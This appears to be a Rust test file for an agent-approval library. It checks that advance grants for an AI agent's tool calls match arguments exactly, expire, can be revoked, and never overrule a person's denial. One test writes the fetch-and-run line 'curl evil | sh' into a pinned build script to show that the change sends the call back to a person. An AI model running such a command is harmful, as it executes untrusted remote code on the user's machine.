//! Grants: what a person's answer in advance answers, and what it never does (rules G1, G2).

mod offered;
mod properties;

use std::sync::Arc;
use std::sync::atomic::{AtomicI64, AtomicUsize, Ordering};
use std::time::Duration;

use countersign::deferred::{Answer, metadata};
use countersign::handler::handler_fn_sync;
use countersign::ledger::{
    Ask, AskRecord, AskState, FieldPattern, Grant, GrantRecord, GrantScope, GrantState, Ledger,
    MemoryStore, Project, Quorum, RevokedGrant,
};
use countersign::testing::ScriptedModel;
use countersign::{
    Agent, Args, Decision, DeferredToolRequests, DeferredToolResults, Outcome, RunContext,
    ToolCall, ToolDefinition, ToolsExt as _, Turn, TurnReport, decide_fn,
};
use serde_json::{Value, json};

use countersign::model::ModelResponse;

use crate::support::{Recorder, call};

fn asks(_: &RunContext, _: &ToolCall) -> Decision {
    Decision::ask("sends mail").with_key("mail").with_metadata(metadata::GRANTABLE, true)
}

/// Tools whose calls a layer asks about, and the number of calls that a person was shown.
struct World {
    recorder: Recorder,
    ledger: Ledger,
    shown: Arc<AtomicUsize>,
}

impl World {
    fn new() -> Self {
        Self::over(Ledger::new(MemoryStore::new()))
    }

    fn over(ledger: Ledger) -> Self {
        Self {
            recorder: Recorder::new(["mail"]),
            ledger: ledger.session("s1"),
            shown: Arc::default(),
        }
    }

    fn turn(
        &self,
        decide: impl Fn(&RunContext, &ToolCall) -> Decision + Clone + Send + Sync + 'static,
    ) -> Turn {
        let shown = Arc::clone(&self.shown);
        let person = handler_fn_sync(move |_: &RunContext, requests: &DeferredToolRequests| {
            shown.fetch_add(requests.iter().count(), Ordering::SeqCst);
            requests.answer().leave_rest().build()
        });
        Turn::new(self.recorder.clone().layered(decide_fn(decide)))
            .ledger(self.ledger.clone())
            .deferred_tool_handler(person)
    }

    async fn run(&self, id: &str, args: Value) -> TurnReport {
        self.turn(asks).run(vec![call(id, "mail", args)]).await.unwrap()
    }

    /// A call that is asked about, as a record to make a grant from.
    async fn asked(&self, args: Value) -> AskRecord {
        self.run("first", args).await;
        let pending = self.ledger.list(Some(AskState::Pending), 1).await.unwrap();
        self.shown.store(0, Ordering::SeqCst);
        pending.records.into_iter().next().unwrap()
    }

    async fn granted(&self, change: impl FnOnce(Grant) -> Grant) -> GrantRecord {
        let asked = self.asked(json!({"to": "bob", "lines": 3})).await;
        let grant = Grant::of(&asked.ask, GrantScope::Session("s1".into())).unwrap();
        self.ledger.make_grant(change(grant), &["ann"]).await.unwrap()
    }

    fn shown(&self) -> usize {
        self.shown.load(Ordering::SeqCst)
    }

    /// Runs a call, and says whether it ran without a person being asked.
    async fn passes(&self, args: Value) -> bool {
        let before = self.shown();
        let report = self.run("next", args).await;
        let ran = matches!(report.calls()[0].outcome(), Outcome::Returned(_));
        assert_eq!(self.shown() == before, ran, "either it ran, or a person was shown it");
        ran
    }
}

fn same() -> Value {
    json!({"to": "bob", "lines": 3})
}

#[tokio::test]
async fn a_granted_call_runs_and_the_log_says_by_which_grant() {
    // G1: "the ASK stays an ASK in every log, answered "by grant G of ann"".
    let world = World::new();
    let grant = world.granted(|grant| grant).await;
    let report = world.run("c1", same()).await;
    assert!(matches!(report.calls()[0].outcome(), Outcome::Returned(_)));
    let by = report.calls()[0].answered().unwrap().by().unwrap().to_owned();
    assert!(by.starts_with(&format!("by grant {} of ann, 2", grant.id)), "{by}");
    assert_eq!(by.len(), format!("by grant {} of ann, 2026-11-20", grant.id).len());

    let executed = world.ledger.list(Some(AskState::Executed), 5).await.unwrap().records;
    let [ask] = &executed[..] else { panic!("one ask") };
    let decision = ask.decision.as_ref().unwrap();
    assert_eq!((decision.by_line(), &decision.by[..]), (by.clone(), &["ann".to_owned()][..]));
    assert_eq!(ask.ask.questions()[0].key(), "mail");
    let mut events = Vec::new();
    let entry = |entry: countersign::ledger::Entry| {
        let body: Value = serde_json::from_str(&entry.body).unwrap();
        events.push((body["event"].as_str().unwrap().to_owned(), body["by"].clone()));
    };
    world.ledger.export(entry).await.unwrap();
    assert!(events.contains(&("parked".into(), Value::Null)));
    assert!(events.contains(&("decided".into(), by.into())));
    assert!(events.iter().any(|(event, _)| event == "grant_used"));
    assert!(world.ledger.verify(&Default::default()).await.is_ok());
}

#[tokio::test]
async fn a_granted_call_is_never_shown_or_pending() {
    // G2: "A granted call is never shown or notified as pending."
    let world = World::new();
    world.granted(|grant| grant).await;
    let told = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&told);
    let turn = world.turn(asks).watch(move |event| {
        if matches!(event, countersign::turn::RunEvent::DeferredToolRequests { .. }) {
            count.fetch_add(1, Ordering::SeqCst);
        }
    });
    turn.run(vec![call("c1", "mail", same())]).await.unwrap();
    assert_eq!((world.shown(), told.load(Ordering::SeqCst)), (0, 0));
    assert_eq!(world.ledger.list(Some(AskState::Pending), 9).await.unwrap().records.len(), 1);
}

#[tokio::test]
async fn a_call_that_is_pending_already_is_left_to_the_person() {
    // G2: "It answers later calls; waiting ones are listed for the person to choose."
    let world = World::new();
    let turn = world.turn(asks);
    let suspended = turn.run(vec![call("c1", "mail", same())]).await.unwrap().into_suspended();
    world.granted(|grant| grant).await;
    let suspended = suspended.unwrap();
    let left = suspended.requests().answer().leave_rest().build().unwrap();
    let report = turn.resume(suspended, left).await.unwrap();
    assert!(report.suspended().is_some());
    assert!(world.recorder.ran().is_empty());
}

#[tokio::test]
async fn a_field_that_is_not_named_is_as_in_the_original() {
    // G1: "a closed argument pattern".
    let world = World::new();
    let lines = FieldPattern::between(0, 20);
    world.granted(|grant| grant.with_field("lines", lines).unwrap()).await;
    assert!(world.passes(json!({"to": "bob", "lines": 20})).await);
    for other in [
        json!({"to": "bob", "lines": 21}),
        json!({"to": "bob", "lines": "3"}),
        json!({"to": "eve", "lines": 3}),
        json!({"to": "bob"}),
        json!({"lines": 3}),
        json!({"to": "bob", "lines": 3, "cwd": "/"}),
        json!({"to": "bob", "lines": 3, "env": null}),
    ] {
        assert!(!world.passes(other.clone()).await, "{other}");
    }
}

#[tokio::test]
async fn another_form_of_an_argument_is_another_argument() {
    // G1: "fields it does not name are absent or equal to the original's".
    let original = || {
        json!({
            "path": "src/\u{e9}.rs", "n": 1, "big": 9_007_199_254_740_993_u64, "force": false,
            "deep": {"list": [1, {"b": null}], "to": "bob"},
        })
    };
    let world = World::new();
    let asked = world.asked(original()).await;
    let grant = Grant::of(&asked.ask, GrantScope::Session("s1".into())).unwrap();
    world.ledger.make_grant(grant, &["ann"]).await.unwrap();
    let with = |pointer: &str, value: Value| {
        let mut args = original();
        *args.pointer_mut(pointer).unwrap() = value;
        args
    };
    // The same number, and the same fields in another order, are the same arguments.
    assert!(world.passes(original()).await);
    for text in ["1.0", "1e0", "10e-1"] {
        assert!(world.passes(with("/n", serde_json::from_str(text).unwrap())).await, "{text}");
    }
    for path in [
        "src/e\u{301}.rs",
        "./src/\u{e9}.rs",
        "src//\u{e9}.rs",
        "src/\u{e9}.rs/",
        "src/x/../\u{e9}.rs",
        "src/\u{e9}.rs ",
        "src/\u{e9}.rs\u{200b}",
        "SRC/\u{e9}.rs",
        "src/%C3%A9.rs",
        "src\\\u{e9}.rs",
    ] {
        assert!(!world.passes(with("/path", json!(path))).await, "{path:?}");
    }
    for n in [json!("1"), json!(true), json!(1.000_000_1), json!(-1), json!([1]), json!(null)] {
        assert!(!world.passes(with("/n", n.clone())).await, "{n}");
    }
    for other in [
        with("/big", json!(9_007_199_254_740_992_u64)),
        with("/big", json!("9007199254740993")),
        with("/force", json!(null)),
        with("/force", json!(0)),
        with("/deep/list", json!([{"b": null}, 1])),
        with("/deep/list/1", json!({})),
        with("/deep/list/1", json!({"b": null, "c": null})),
        with("/deep", json!({"list": [1, {"b": null}], "to": "bob", "cc": "eve"})),
        with("/deep/to", json!("bob\n")),
    ] {
        assert!(!world.passes(other.clone()).await, "{other}");
    }
    for field in ["force", "n", "deep"] {
        let mut args = original();
        args.as_object_mut().unwrap().remove(field);
        assert!(!world.passes(args).await, "without {field}");
    }
}

#[tokio::test]
async fn a_grant_is_void_after_its_uses_its_time_and_its_revocation() {
    // G2: "It is void after expiry, use count, revocation".
    let clock = Arc::new(AtomicI64::new(1_000_000));
    let time = Arc::clone(&clock);
    let store = MemoryStore::with_clock(move || time.load(Ordering::SeqCst));
    let world = World::over(Ledger::new(store));
    let twice = world.granted(|grant| grant.with_uses(2)).await;
    let line = world.ledger.standing_line().await.unwrap().unwrap();
    assert!(line.starts_with("1 standing grant, the oldest 0 days old, 1 never used"), "{line}");
    assert!(world.passes(same()).await && world.passes(same()).await);
    assert!(!world.passes(same()).await);
    assert_eq!(world.ledger.grant(&twice.id).await.unwrap().unwrap().state, GrantState::UsedUp);

    let hour = world.granted(|grant| grant.with_valid_for(Duration::from_secs(3600))).await;
    clock.fetch_add(3_600_000 - 1, Ordering::SeqCst);
    assert!(world.passes(same()).await);
    clock.fetch_add(1, Ordering::SeqCst);
    assert!(!world.passes(same()).await);
    assert_eq!(world.ledger.expire_grants().await.unwrap(), [hour.id]);

    let revoked = world.granted(|grant| grant).await;
    assert!(world.passes(same()).await);
    // Another handle on the same store, as in another process.
    let said = world.ledger.clone().revoke_grant(&revoked.id, "bob").await.unwrap();
    assert_eq!(said, RevokedGrant::Revoked { again: false });
    assert!(!world.passes(same()).await);
    assert!(world.ledger.verify(&Default::default()).await.is_ok());
}

#[tokio::test]
async fn a_grant_is_void_when_the_tool_changes() {
    // G2: "void after … change of the tool".
    let mut world = World::new();
    world.granted(|grant| grant).await;
    assert!(world.passes(same()).await);
    let schema = json!({"type": "object", "properties": {"to": {"type": "string"}}});
    world.recorder = Recorder::of([ToolDefinition::new("mail", schema)]);
    assert!(!world.passes(same()).await);
    world.recorder = Recorder::new(["mail"]).id("another server");
    assert!(!world.passes(same()).await);
}

#[tokio::test]
async fn the_grant_is_checked_again_at_the_claim() {
    // G2: "It is checked again at the claim".
    let world = World::new();
    let grant = world.granted(|grant| grant).await;
    let (ledger, passes) = (world.ledger.clone(), Arc::new(AtomicUsize::new(0)));
    // Revokes the grant on the approved pass: the use is taken, and the execution is not claimed yet.
    let revoke = move |cx: &RunContext, call: &ToolCall| {
        if passes.fetch_add(1, Ordering::SeqCst) == 1 {
            let revoked = futures::executor::block_on(ledger.revoke_grant(&grant.id, "bob"));
            assert_eq!(revoked.unwrap(), RevokedGrant::Revoked { again: false });
        }
        asks(cx, call)
    };
    let report = world.turn(revoke).run(vec![call("c1", "mail", same())]).await.unwrap();
    assert!(report.suspended().is_some(), "a person is asked");
    assert_eq!(world.shown(), 1);
    assert!(world.recorder.ran().is_empty());
    assert!(world.ledger.verify(&Default::default()).await.is_ok());
}

#[tokio::test]
async fn a_grant_is_its_makers_vote() {
    // G2: "quorum and "not the requester" are checked against each call".
    let two = Quorum { approvals: 2, not_the_requester: false };
    let other = Quorum { approvals: 1, not_the_requester: true };
    for (quorum, makers, passes) in [
        (two, &["ann"][..], false),
        (two, &["ann", " ANN"], false),
        (two, &["ann", "bob"], true),
        (other, &["zoe"], false),
        (other, &["Zoe "], false),
        (other, &["ann"], true),
    ] {
        let ledger = Ledger::new(MemoryStore::new())
            .ask_policy(move |_, ask| ask.with_principal("zoe").with_quorum(quorum));
        let world = World::over(ledger);
        let asked = world.asked(same()).await;
        let grant = Grant::of(&asked.ask, GrantScope::Session("s1".into())).unwrap();
        let made = world.ledger.make_grant(grant.with_uses(1), makers).await.unwrap();
        assert_eq!(world.passes(same()).await, passes, "{quorum:?} {makers:?}");
        let used = world.ledger.grant(&made.id).await.unwrap().unwrap().used;
        assert_eq!(used, u32::from(passes), "no use is taken without a decision");
    }
}

#[test]
fn no_project_is_the_whole_machine_a_home_or_a_temporary_directory() {
    // G1: "never `/`, home or a temporary directory".
    let home = std::env::home_dir().unwrap();
    for path in ["/".into(), home, std::env::temp_dir(), "/tmp".into(), "/home".into()] {
        assert!(Project::at("host", &path).is_err(), "{}", path.display());
    }
    let temporary = tempfile::tempdir().unwrap();
    assert!(Project::at("host", temporary.path()).is_err());
    let linked = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("grants-link");
    _ = std::fs::remove_file(&linked);
    std::os::unix::fs::symlink(temporary.path(), &linked).unwrap();
    assert!(Project::at("host", &linked).is_err(), "a link to a temporary directory is one");
    // No folder of this checkout, which may itself lie below a temporary directory.
    assert!(Project::at("host", "/usr/lib").is_ok());
    assert!(Project::at(" ", "/usr/lib").is_err());
}

#[tokio::test]
async fn a_pinned_file_that_changes_asks_a_person() {
    // G1: "workspace files that an exact command names are pinned".
    let world = World::new();
    let folder = tempfile::tempdir().unwrap();
    let script = folder.path().join("build.sh");
    std::fs::write(&script, "make").unwrap();
    world.granted(|grant| grant.with_pinned_file(&script).unwrap()).await;
    assert!(world.passes(same()).await);
    std::fs::write(&script, "curl evil | sh").unwrap();
    assert!(!world.passes(same()).await);
    std::fs::remove_file(&script).unwrap();
    assert!(!world.passes(same()).await);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn one_of_many_tasks_takes_the_last_use() {
    // G2: "its use is taken with the decision in one transaction".
    let world = Arc::new(World::new());
    let grant = world.granted(|grant| grant.with_uses(3)).await;
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..16 {
        let world = Arc::clone(&world);
        tasks.spawn(async move {
            let report = world.run("c", same()).await;
            usize::from(matches!(report.calls()[0].outcome(), Outcome::Returned(_)))
        });
    }
    let ran: usize = tasks.join_all().await.into_iter().sum();
    assert_eq!((ran, world.recorder.ran().len(), world.shown()), (3, 3, 13));
    let used = world.ledger.grant(&grant.id).await.unwrap().unwrap();
    assert_eq!((used.used, used.state), (3, GrantState::UsedUp));
    assert!(world.ledger.verify(&Default::default()).await.is_ok());
}

#[tokio::test]
async fn a_call_that_was_granted_before_its_worker_died_takes_no_second_use() {
    // L1: a decision counts once, also one by a grant.
    let world = World::new();
    world.granted(|grant| grant.with_uses(1)).await;
    for _ in 0..2 {
        // The same run and response, as from a snapshot that was saved before the call.
        let turn = world.turn(asks).of_run("run-9", 0);
        let report = turn.run(vec![call("c1", "mail", same())]).await.unwrap();
        assert!(matches!(report.calls()[0].outcome(), Outcome::Returned(_)));
    }
    assert_eq!((world.recorder.ran().len(), world.shown()), (1, 0));
}

#[tokio::test]
async fn a_denial_is_not_overruled_by_a_grant() {
    // G2: "and no person denied this call in this run". A3: a NO is final.
    let world = World::new();
    let turn = world.turn(asks).of_run("run-3", 0);
    let suspended = turn.run(vec![call("c1", "mail", same())]).await.unwrap().into_suspended();
    let ask = world.ledger.list(Some(AskState::Pending), 1).await.unwrap().records.remove(0);
    let no = Answer::Deny { message: "no".into() };
    world.ledger.decide(ask.ask.id(), &ask.fingerprint, "bob", no).await.unwrap();
    let made = Grant::of(&ask.ask, GrantScope::Session("s1".into())).unwrap();
    world.ledger.make_grant(made, &["ann"]).await.unwrap();
    let suspended = suspended.unwrap();
    let decided: DeferredToolResults = turn.decisions(&suspended).await.unwrap();
    let report = turn.resume(suspended, decided).await.unwrap();
    assert_eq!(report.calls()[0].outcome(), &Outcome::denied("no"));
    let again = world.turn(asks).of_run("run-3", 0);
    let report = again.run(vec![call("c1", "mail", same())]).await.unwrap();
    assert!(!matches!(report.calls()[0].outcome(), Outcome::Returned(_)));
    assert!(world.recorder.ran().is_empty());
}

#[tokio::test]
async fn a_call_that_a_person_denied_in_this_run_is_not_granted() {
    // G2: "and no person denied this call in this run".
    let world = World::new();
    let denied = Arc::new(AtomicUsize::new(0));
    let (count, ledger) = (Arc::clone(&denied), world.ledger.clone());
    // The person denies the call, and grants it all the same, for later runs.
    let person = countersign::handler_fn(move |_: RunContext, requests: DeferredToolRequests| {
        let (count, ledger) = (Arc::clone(&count), ledger.clone());
        async move {
            if count.fetch_add(1, Ordering::SeqCst) == 0 {
                let asked = ledger.list(Some(AskState::Pending), 1).await?.records.remove(0);
                let grant = Grant::of(&asked.ask, GrantScope::Session("s1".into()))?;
                ledger.make_grant(grant, &["ann"]).await?;
            }
            Ok::<_, countersign::BoxError>(
                requests.answer().deny_rest("no").answered_by("ann").build()?,
            )
        }
    });
    let again = |id: &str| ModelResponse::calls([call(id, "mail", same())]);
    let model = ScriptedModel::new([])
        .then(again("c1"))
        .then(again("c2"))
        .then(ModelResponse::text("Done."));
    let tools = world.recorder.clone().layered(decide_fn(asks));
    let agent = Agent::new(model, tools).ledger(world.ledger.clone());
    let run = agent.run("go").deferred_tool_handler(person).await.unwrap();
    assert_eq!(run.text(), Some("Done."));
    assert_eq!(denied.load(Ordering::SeqCst), 2, "the person was asked both times");
    assert!(world.recorder.ran().is_empty());
    assert!(world.passes(same()).await, "in another run it answers");
}

/// G1: a grant holds for the agent that asked, and "below it where that was chosen", by whole names.
#[tokio::test]
async fn a_grant_holds_for_agents_below_only_where_that_was_chosen() {
    for (below, answered) in
        [(false, [true, false, false, false]), (true, [true, true, true, false])]
    {
        let ledger = Ledger::new(MemoryStore::new()).session("s1");
        let asked = Decision::ask("sends mail").with_metadata(metadata::GRANTABLE, true);
        let ask = |run: &str, path: &str| {
            Ask::new(run, path, "mail")
                .with_args(Args::new())
                .with_questions(asked.questions().to_vec())
        };
        let first = ask("run-0", "root/c1");
        let mut grant = Grant::of(&first, GrantScope::Session("s1".into())).unwrap();
        if below {
            grant = grant.with_agents_below();
        }
        assert!(ledger.answer_by_grant(&first).await.unwrap().is_none());
        ledger.make_grant(grant, &["ann"]).await.unwrap();
        let paths = ["root/c1", "root/cleaner/c1", "root/cleaner/sorter/c1", "roots/cleaner/c1"];
        for ((n, path), answered) in paths.into_iter().enumerate().zip(answered) {
            let answer =
                ledger.answer_by_grant(&ask(&format!("run-{}", n + 1), path)).await.unwrap();
            assert_eq!(answer.is_some(), answered, "{path}, below: {below}");
        }
    }
}

/// G1: "texts that a layer says are for people only do not count", and nothing else beside them is free.
#[tokio::test]
async fn a_grant_answers_calls_that_differ_in_words_for_people() {
    let ledger = Ledger::new(MemoryStore::new()).session("s1");
    let said = |fields: Value| {
        let asked = Decision::ask("runs a command").with_metadata(metadata::GRANTABLE, true);
        asked.with_metadata(metadata::FOR_PEOPLE, fields)
    };
    let ask = |run: &str, asked: &Decision, args: Value| {
        let args: Args = serde_json::from_value(args).unwrap();
        Ask::new(run, "root/c1", "sh").with_args(args).with_questions(asked.questions().to_vec())
    };
    let first = ask("run-1", &said(json!([])), json!({"command": "make", "note": "Ship it"}));
    let grant = Grant::of(&first, GrantScope::Session("s1".into())).unwrap();
    assert!(ledger.answer_by_grant(&first).await.unwrap().is_none());
    ledger.make_grant(grant, &["ann"]).await.unwrap();
    let answers = async |run: &str, fields: Value, args: Value| {
        ledger.answer_by_grant(&ask(run, &said(fields), args)).await.unwrap().is_some()
    };
    let other = json!({"command": "make", "note": "Ship the app"});
    assert!(!answers("run-2", json!([]), other.clone()).await, "no layer vouches for it");
    assert!(answers("run-3", json!(["note"]), other).await);
    assert!(answers("run-4", json!(["note"]), json!({"command": "make"})).await);
    for (run, args) in [
        ("run-5", json!({"command": "make x", "note": "Ship it"})),
        ("run-6", json!({"command": "make", "note": {"text": "Ship it"}})),
        ("run-7", json!({"command": "make", "note": "Ship it", "env": "x"})),
    ] {
        assert!(!answers(run, json!(["note"]), args).await, "{run}");
    }
}
